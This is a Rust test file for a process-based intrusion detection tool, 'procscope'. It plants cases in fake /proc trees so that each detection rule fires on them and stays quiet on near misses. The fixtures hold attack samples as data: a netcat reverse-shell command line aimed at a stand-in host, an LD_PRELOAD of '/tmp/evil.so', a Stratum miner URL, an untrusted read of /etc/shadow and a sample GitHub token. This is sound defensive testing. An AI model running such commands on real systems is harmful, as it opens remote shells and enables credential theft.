//! Each built-in detection fires on a planted case and stays quiet on a near miss, over
//! fixture /proc trees (`procscope --proc-root FIXTURE detect --json`).

#![allow(clippy::unwrap_used)]

use crate::support::{FakePid, FakeProc, TCP_HEADER, tcp_row};
use serde_json::Value;

const ID: &str = "4f1c0de2a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c";

/// A fixture with an init (pid 1) and `build` adding the case.
fn alerts(build: impl Fn(&FakeProc)) -> Vec<Value> {
    let fp = FakeProc::new();
    fp.process(1, 0, "systemd");
    build(&fp);
    crate::support::json_lines(
        crate::support::procscope()
            .env("XDG_CONFIG_HOME", fp.path())
            .args([
                "--proc-root",
                fp.path().to_str().unwrap(),
                "detect",
                "--json",
            ]),
    )
}

fn fired(alerts: &[Value], rule: &str, pid: u32) -> bool {
    alerts.iter().any(|a| a["rule"] == rule && a["pid"] == pid)
}

/// A process in a docker container with namespaces of its own.
fn in_container(fp: &FakeProc, pid: u32, ppid: u32, comm: &str) -> FakePid {
    let p = fp.process(pid, ppid, comm);
    p.file(
        "cgroup",
        format!("0::/system.slice/docker-{ID}.scope\n").as_bytes(),
    );
    for (i, kind) in ["ipc", "mnt", "net", "pid"].iter().enumerate() {
        p.ns(kind, 4026532000 + i as u64);
    }
    p
}

fn status(p: &FakePid, uid: u32, tracer: u32, cap: &str) {
    let text = format!(
        "Name:\tx\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\nGid:\t{uid}\t{uid}\t{uid}\t{uid}\nTracerPid:\t{tracer}\nNSpid:\t{}\nCapEff:\t{cap}\nCapPrm:\t{cap}\nSeccomp:\t0\n",
        p.pid
    );
    p.file("status", text.as_bytes());
}

/// Run `case(plant)` with plant = true and false; the rule must fire on pid 10 only when planted.
fn check(rule: &str, case: impl Fn(&FakeProc, bool)) {
    let hit = alerts(|fp| case(fp, true));
    assert!(fired(&hit, rule, 10), "{rule} did not fire: {hit:#?}");
    let a = hit.iter().find(|a| a["rule"] == rule).unwrap();
    assert_eq!(a["inferred"], true);
    assert!(!a["evidence"].as_str().unwrap().is_empty());
    let miss = alerts(|fp| case(fp, false));
    assert!(
        !fired(&miss, rule, 10),
        "{rule} fired on the near miss: {miss:#?}"
    );
}

fn tty_stat(p: &FakePid, comm: &str, ppid: u32, tty: u32) {
    let line = format!(
        "{pid} ({comm}) S {ppid} {pid} {pid} {tty} -1 4194560 100 0 0 0 5 3 0 0 20 0 1 0 {start} 1000 200 0\n",
        pid = p.pid,
        start = 1000 + p.pid
    );
    p.file("stat", line.as_bytes());
}

#[test]
fn terminal_shell_in_container() {
    check("Terminal shell in container", |fp, plant| {
        in_container(fp, 9, 1, "containerd-shim");
        let p = in_container(fp, 10, 9, "bash");
        tty_stat(&p, "bash", 9, if plant { 34816 } else { 0 });
    });
}

#[test]
fn run_shell_untrusted() {
    check("Run shell untrusted", |fp, plant| {
        fp.process(9, 1, if plant { "nginx" } else { "sshd" });
        fp.process(10, 9, "sh");
    });
}

#[test]
fn netcat_remote_code_execution() {
    check("Netcat Remote Code Execution in Container", |fp, plant| {
        let p = in_container(fp, 10, 1, "nc");
        let args: &[u8] = if plant {
            b"nc\0-e\0/bin/sh\0evil\x004444\0"
        } else {
            b"nc\0evil\x004444\0"
        };
        p.file("cmdline", args);
    });
}

#[test]
fn fileless_and_deleted_and_temporary_executables() {
    check("Fileless execution via memfd_create", |fp, plant| {
        let p = fp.process(10, 1, "x");
        p.link(
            "exe",
            if plant {
                b"/memfd:x (deleted)"
            } else {
                b"/usr/bin/x"
            },
        );
    });
    check("Deleted executable running", |fp, plant| {
        let p = fp.process(10, 1, "x");
        p.link(
            "exe",
            if plant {
                b"/usr/bin/x (deleted)"
            } else {
                b"/usr/bin/x"
            },
        );
    });
    check("Execution from /dev/shm", |fp, plant| {
        let p = fp.process(10, 1, "x");
        p.link("exe", if plant { b"/dev/shm/x" } else { b"/dev/shmx/x" });
    });
    check("Executable in a temporary directory", |fp, plant| {
        let p = fp.process(10, 1, "x");
        p.link("exe", if plant { b"/var/tmp/x" } else { b"/var/tmpx/x" });
    });
}

#[test]
fn ld_preload_and_miner_names() {
    check("LD_PRELOAD in environment", |fp, plant| {
        let p = fp.process(10, 1, "x");
        p.file(
            "environ",
            if plant {
                b"LD_PRELOAD=/tmp/evil.so\0"
            } else {
                b"LD_LIBRARY_PATH=/opt\0"
            },
        );
    });
    check(
        "Detect crypto miners using the Stratum protocol",
        |fp, plant| {
            let p = fp.process(10, 1, "x");
            let url: &[u8] = if plant {
                b"x\0-o\0stratum+tcp://pool:3333\0"
            } else {
                b"x\0-o\0https://pool\0"
            };
            p.file("cmdline", url);
        },
    );
}

#[test]
fn capabilities_and_host_namespaces_in_containers() {
    check("Container with full capabilities", |fp, plant| {
        let p = in_container(fp, 10, 1, "x");
        status(
            &p,
            0,
            0,
            if plant {
                "000001ffffffffff"
            } else {
                "00000000a80425fb"
            },
        );
    });
    check("Container in a host namespace", |fp, plant| {
        let p = in_container(fp, 10, 1, "x");
        if plant {
            p.ns("net", 4026531835 + 3);
        }
    });
}

#[test]
fn ptrace_attached() {
    check("PTRACE attached to process", |fp, plant| {
        fp.process(9, 1, "gdb");
        let p = fp.process(10, 1, "victim");
        status(&p, 0, if plant { 9 } else { 0 }, "0");
    });
    let a = alerts(|fp| {
        fp.process(9, 1, "gdb");
        status(&fp.process(10, 1, "victim"), 0, 9, "0");
    });
    let a = a
        .iter()
        .find(|a| a["rule"] == "PTRACE attached to process")
        .unwrap();
    assert_eq!(a["output_fields"]["proc.name"], "gdb");
    assert_eq!(a["evidence"], "TracerPid of 10 is 9");
}

#[test]
fn read_sensitive_file_untrusted() {
    check("Read sensitive file untrusted", |fp, plant| {
        let p = fp.process(10, 1, "evil");
        p.fd(3, "/etc/shadow").file(
            "fdinfo/3",
            format!(
                "pos:\t0\nflags:\t{}\n",
                if plant { "0100000" } else { "0100001" }
            )
            .as_bytes(),
        );
    });
    let a = alerts(|fp| {
        fp.process(10, 1, "sshd")
            .fd(3, "/etc/shadow")
            .file("fdinfo/3", b"flags:\t0100000\n");
    });
    assert!(
        !fired(&a, "Read sensitive file untrusted", 10),
        "sshd is trusted"
    );
}

/// A process in a container holding fd `fd` on a tcp socket `local` -> `remote`.
fn tcp(fp: &FakeProc, fd: i32, local: &str, remote: &str, state: u8, uid: u32, env: &[u8]) {
    let p = in_container(fp, 10, 1, "x");
    status(&p, uid, 0, "0");
    p.fd(fd, "socket:[777]").file("environ", env);
    p.net(
        "tcp",
        &format!("{TCP_HEADER}{}", tcp_row(0, local, remote, state, uid, 777)),
    );
}

#[test]
fn network_rules() {
    // 10.0.0.2:40000 -> 10.96.0.1:443 and 45.1.2.3:3333 in kernel hex.
    let local = "0200000A:9C40";
    check(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        |fp, plant| {
            tcp(
                fp,
                if plant { 1 } else { 3 },
                local,
                "0300A8C0:115C",
                1,
                0,
                b"A=1\0",
            );
        },
    );
    check("Contact K8S API Server From Container", |fp, plant| {
        let env: &[u8] = if plant {
            b"KUBERNETES_SERVICE_HOST=10.96.0.1\0"
        } else {
            b"KUBERNETES_SERVICE_HOST=10.96.0.9\0"
        };
        tcp(fp, 3, local, "0100600A:01BB", 1, 0, env);
    });
    check(
        "Detect outbound connections to common miner pool ports",
        |fp, plant| {
            tcp(
                fp,
                3,
                local,
                if plant {
                    "0302012D:0D05"
                } else {
                    "0500000A:0D05"
                },
                1,
                0,
                b"A=1\0",
            );
        },
    );
    check("Listener in a container running as root", |fp, plant| {
        tcp(
            fp,
            3,
            "00000000:1F90",
            "00000000:0000",
            0x0A,
            if plant { 0 } else { 1000 },
            b"A=1\0",
        );
    });
    check("Packet socket created in container", |fp, plant| {
        let p = in_container(fp, 10, 1, "sniffer");
        p.fd(3, "socket:[888]");
        let table = if plant { "net/packet" } else { "net/netlink" };
        p.file(table, b"sk RefCnt Type Proto Iface R Rmem User Inode\n0000000000000000 3 3 0003 2 1 0 0 888\n");
    });
}

#[test]
fn credential_in_environment_is_masked() {
    let token = "ghp_8hT2kLmN4pQ7rS1vW3xY5zA9bC0dE6fG2hJ4";
    check("Credential in process environment", |fp, plant| {
        let env = if plant {
            format!("GITHUB_TOKEN={token}\0")
        } else {
            "HOME=/root\0".into()
        };
        fp.process(10, 1, "x").file("environ", env.as_bytes());
    });
    let a = alerts(|fp| {
        fp.process(10, 1, "x")
            .file("environ", format!("GITHUB_TOKEN={token}\0").as_bytes());
    });
    let line = serde_json::to_string(&a).unwrap();
    assert!(!line.contains(token), "the credential leaked: {line}");
}
